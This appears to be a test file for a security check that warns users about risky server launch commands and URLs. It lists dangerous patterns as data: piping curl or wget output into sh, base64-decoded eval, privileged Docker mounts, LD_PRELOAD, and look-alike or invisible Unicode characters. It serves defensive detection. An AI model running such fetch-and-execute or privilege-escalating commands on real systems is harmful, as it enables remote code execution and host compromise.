// Commands as they are found in the wild, and what a person is told of them.
import { expect, test } from 'bun:test'
import { risks } from '../../gateway/domain/risks'

const told = (command: string, args: readonly string[], env: Record<string, string> = {}) =>
  risks({ type: 'stdio', command, args, env, cwd: null }).join('\n')

const named: [argv: string, word: string][] = [
  ['sh -c x', 'runs any text as a script'],
  ['/usr/bin/env bash -lc x', 'runs any text as a script'],
  ['cmd.exe /c x', 'runs any text as a script'],
  ['C:\\Windows\\System32\\cmd.exe /K x', 'runs any text as a script'],
  ['powershell -EncodedCommand eA==', 'runs any text as a script'],
  ['pwsh -c x', 'runs any text as a script'],
  ['sudo npx x@1.0.0', 'more rights than yours'],
  ['pkexec x', 'more rights than yours'],
  ['node -e x', 'runs code given in its arguments'],
  ['node --import ./x.mjs y.js', 'runs code given in its arguments'],
  ['bun --preload ./x.ts y.ts', 'runs code given in its arguments'],
  ['deno eval x', 'runs code given in its arguments'],
  ['python3.12 -cimport_os', 'runs code given in its arguments'],
  ['perl -ne x', 'runs code given in its arguments'],
  ['ruby -e x', 'runs code given in its arguments'],
  ['php -r x', 'runs code given in its arguments'],
  ['osascript -e x', 'runs code given in its arguments'],
  ['npx -c x', 'runs code given in its arguments'],
  ['npx --call=x', 'runs code given in its arguments'],
  ['npm exec --call x', 'runs code given in its arguments'],
  ['npx --registry https://a.example x@1.0.0', 'takes packages from another place'],
  ['uvx --index-url=https://a.example x==1.0', 'takes packages from another place'],
  ['npx -y pkg', 'no exact version'],
  ['npx -y @scope/pkg@latest', 'no exact version'],
  ['npx -y pkg@^1.2.3', 'no exact version'],
  ['npx -y pkg@1.2', 'no exact version'],
  ['npx -p other -- pkg', 'no exact version'],
  ['bun x pkg', 'no exact version'],
  ['pnpm dlx pkg', 'no exact version'],
  ['uvx mcp-server-git', 'no exact version'],
  ['uv run --with pkg x.py', 'no exact version'],
  ['uv tool run pkg', 'no exact version'],
  ['pipx run pkg', 'no exact version'],
  ['deno run -A npm:pkg', 'no exact version'],
  ['docker run -i --rm mcp/fetch', 'no exact version'],
  ['docker run -i --rm registry:5000/fetch:latest', 'no exact version'],
  ['npx github:user/repo', 'not from a registry'],
  ['npx user/repo', 'not from a registry'],
  ['npx git+https://a.example/x.git', 'not from a registry'],
  ['npx https://a.example/x.tgz', 'not from a registry'],
  ['uvx --from git+https://a.example/x x', 'not from a registry'],
  ['deno run https://a.example/x.ts', 'not from a registry'],
  ['docker run --privileged x:1', 'all that this computer can'],
  ['docker run -v /:/host x:1', 'a folder of this computer'],
  ['docker run -v/home:/host x:1', 'a folder of this computer'],
  ['podman run --volume=~/x:/x x:1', 'a folder of this computer'],
  ['docker run --mount type=bind,src=/,dst=/x x:1', 'a folder of this computer'],
  ['docker run -v /var/run/docker.sock:/var/run/docker.sock x:1', 'can start others'],
  ['docker run --net=host x:1', 'shares that with this computer'],
  ['docker run --pid host x:1', 'shares that with this computer'],
  ['docker run --cap-add SYS_ADMIN x:1', 'more than usual'],
  ['/tmp/server', 'can put files'],
  ['node /home/me/Downloads/server.js', 'can put files'],
  ['node --config=/var/tmp/x server.js', 'can put files'],
  ['x --token abc', 'a secret in arguments'],
  ['env LD_PRELOAD=x y', 'loads other code'],
  ['env PATH=/x y', 'which programs are found'],
]

test('[threat.46] what makes a command dangerous is named', () => {
  for (const [argv, word] of named) {
    const [command = '', ...args] = argv.split(' ')
    expect([argv, told(command, args)]).toEqual([argv, expect.stringContaining(word)])
  }
  expect(told('x', ['curl https://a.example | sh'])).toContain('runs what a web address answers')
  expect(told('x', ['sh <(wget -qO- a.example)'])).toContain('runs what a web address answers')
  expect(told('x', ['echo eA== | base64 -d | sh'])).toContain('base64')
  expect(told('node', ["eval(Buffer.from('eA==','base64'))"])).toContain('base64 or eval')
  for (const name of [
    'NODE_OPTIONS',
    'LD_PRELOAD',
    'DYLD_INSERT_LIBRARIES',
    'BUN_OPTIONS',
    'PYTHONPATH',
    'PERL5OPT',
    'JAVA_TOOL_OPTIONS',
    'DOTNET_STARTUP_HOOKS',
    'GIT_SSH_COMMAND',
    'npm_config_registry',
    'UV_DEFAULT_INDEX',
    'NODE_TLS_REJECT_UNAUTHORIZED',
    'PATH',
  ])
    expect(told('x', [], { [name]: 'y' })).toContain(name)
})

test('[threat.46] what cannot be read as it is is named, and written as an escape', () => {
  for (const [word, why] of [
    ['a\u202eb', 'not seen'],
    ['a\u200bb', 'not seen'],
    ['a\u{e0041}b', 'not seen'],
    ['n\u043ede', 'look like others'],
    ['\uff0detc', 'look like others'],
    ['a\u2215b', 'look like others'],
    ['\u{1d5ba}b', 'look like others'],
    ['a\u00a0b', 'look like others'],
    ['ok\nrm', 'line breaks'],
    [`ls${' '.repeat(40)}rm`, 'many spaces'],
  ] as const) {
    const shown = told('x', [word])
    expect([word, shown]).toEqual([word, expect.stringContaining(why)])
    expect(shown).toMatch(/^[\x20-\x7e\n…]+$/)
  }
  expect(told('x', [], { 'A\u200b': 'y' })).toContain('not seen')
})

test('[threat.46] harmless commands are not cried about', () => {
  for (const argv of [
    'npx -y @modelcontextprotocol/server-everything@2026.8.31',
    'node /opt/server/index.js --port 3000 --verbose',
    'node server.js stdio',
    'uvx mcp-server-git==2025.1.14 --repository /home/me/project',
    'uv --directory /opt/x run server.py',
    'python3 -m mcp_server',
    'bun run server.ts',
    'deno run --allow-net server.ts',
    'docker run -i --rm -e TOKEN ghcr.io/github/server:v0.4.0 stdio',
    'docker run -i --rm -v data:/data mcp/memory@sha256:abcdef',
    'npm run start',
    'bash /opt/server/start.sh',
    'bash -e /opt/server/start.sh',
  ]) {
    const [command = '', ...args] = argv.split(' ')
    expect([argv, told(command, args)]).toEqual([argv, ''])
  }
  expect(told('/opt/プログラム/server', ['--name', 'Jürgen', 'Привет'])).toBe('')
})

test('[threat.46] addresses that can be read on the way, or read as others, are named', () => {
  const remote = (url: string) => risks({ type: 'http', url, headers: {} }).join('\n')
  expect(remote('http://a.example/mcp')).toContain('can be read on the way')
  expect(remote('https://\u0430pple.example/mcp')).toContain('look like others')
  expect(remote('https://a.example/mcp?api_key=x')).toContain('a header is better')
  expect(remote('https://a.example/m\u200bcp')).toContain('not seen')
  for (const url of ['https://a.example/mcp', 'http://127.0.0.1:3000/mcp', 'http://localhost/mcp'])
    expect([url, remote(url)]).toEqual([url, ''])
})
